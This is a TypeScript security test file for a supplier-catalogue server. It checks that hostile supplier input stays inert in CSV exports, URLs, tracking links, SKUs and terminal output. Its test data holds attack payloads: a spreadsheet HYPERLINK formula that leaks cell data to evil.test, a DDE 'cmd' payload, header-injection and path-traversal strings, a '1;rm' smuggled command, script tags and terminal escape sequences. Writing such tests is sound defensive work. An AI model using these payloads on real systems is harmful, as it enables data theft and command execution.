/** SEC: what a supplier writes stays text: in a spreadsheet, in an address, in a header and on a terminal. */
import { describe, expect, test } from 'vitest';
import type { ReviewedOperation } from '../../web/server/catalogue/ports/plans.ts';
import { planCsv } from '../../web/server/cli/plan-csv.ts';
import type { PublicationId, RunId, SupplierIri } from '../../web/server/domain/ids.ts';
import { parseSku } from '../../web/server/domain/ids.ts';
import { endpoint, readIri, resourceAddress } from '../../web/server/supplier/address.ts';
import { oneLine } from '../../web/server/supplier/text-fields.ts';
import { trackingLink } from '../../web/server/tracking/couriers.ts';

const formulas = [
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
const root = new URL('https://supplier.test/v2/api');

async function csvOf(title: string): Promise<string> {
  const after = { content: { title, descriptionHtml: '', vendor: title } };
  const operation = { sku: '1', title, kind: 'update', state: 'planned', before: {}, after, reason: null };
  const pages = (async function* () {
    yield [{ ...operation, draftReasons: [] } as unknown as ReviewedOperation];
  })();
  const shop = { catalogs: [], onlineStoreId: '' as PublicationId };
  const of = { run: { id: 1 as RunId, undoes: null }, shop };
  let text = '';
  for await (const part of planCsv(pages, of)) text += part;
  return text;
}

describe('SEC a plan as a table', () => {
  test.each(formulas)('holds %j as a text that no spreadsheet computes', async (formula) => {
    const csv = await csvOf(formula);
    const cells = csv.slice(csv.indexOf('\n')).split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    const live = cells.filter((cell) => /^"?[=+\-@\t\r＝＋－＠](?!$)/.test(cell.trimStart()));
    expect(live).toEqual([]);
    expect(csv).toContain("'");
  });
});

describe('SEC an address of the supplier', () => {
  test.each(['/a\r\nHost: evil', '/a\nX: 1', '/a\u0000', 'javascript:alert(1)', '../a', 'a b'])(
    '%j is none',
    (reference) => {
      expect(readIri(reference)).toBeUndefined();
    },
  );

  test.each(['/../../admin', '/..%2f..%2fetc', '/a?x=\u00e4', '/a#@evil.test'])(
    '%j stays on the supplier’s server',
    (reference) => {
      expect(resourceAddress(root, reference as SupplierIri).origin).toBe(root.origin);
    },
  );

  test('that would leave the server is refused, or loses its host', () => {
    expect(() => resourceAddress(root, '/\\evil.test' as SupplierIri)).toThrow(/points to another server/);
    expect(readIri('//evil.test/a')).toBe('/a');
  });

  test('takes whatever stands in a question as a value', () => {
    const url = endpoint(root, 'products', [['sku[]', '1&page=2#x\r\nHost: evil']]);
    expect([url.searchParams.getAll('sku[]'), url.searchParams.has('page'), url.hash]).toEqual([
      ['1&page=2#x\r\nHost: evil'],
      false,
      '',
    ]);
    expect(url.href).not.toMatch(/[\r\n]/);
  });
});

test('SEC a tracking number is one value in the link that a customer gets', () => {
  const link = trackingLink('https://track.test/p?n={}', '1&to=https://evil.test/#/../"<script>\r\n');
  expect(new URL(link).searchParams.get('n')).toBe('1&to=https://evil.test/#/../"<script>\r\n');
  expect(link).not.toMatch(/["<>\r\n#]/);
});

test.each(['../../etc/passwd', '1\r\nX: 1', '1/2', '1;rm', '1"', '0x1', '1e3', ' '])(
  'SEC %j is no SKU, so no name of a file and no header is made of it',
  (sku) => {
    expect(parseSku(sku)).toBeUndefined();
  },
);

test.each(['\u001b[2J\u001b]0;owned\u0007Title', 'Title\r\u001b[1A', 'Ti\u202etle', '<b>Title</b>\u0000'])(
  'SEC %j shows a terminal nothing but its words',
  (title) => {
    expect(oneLine(title)).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  },
);
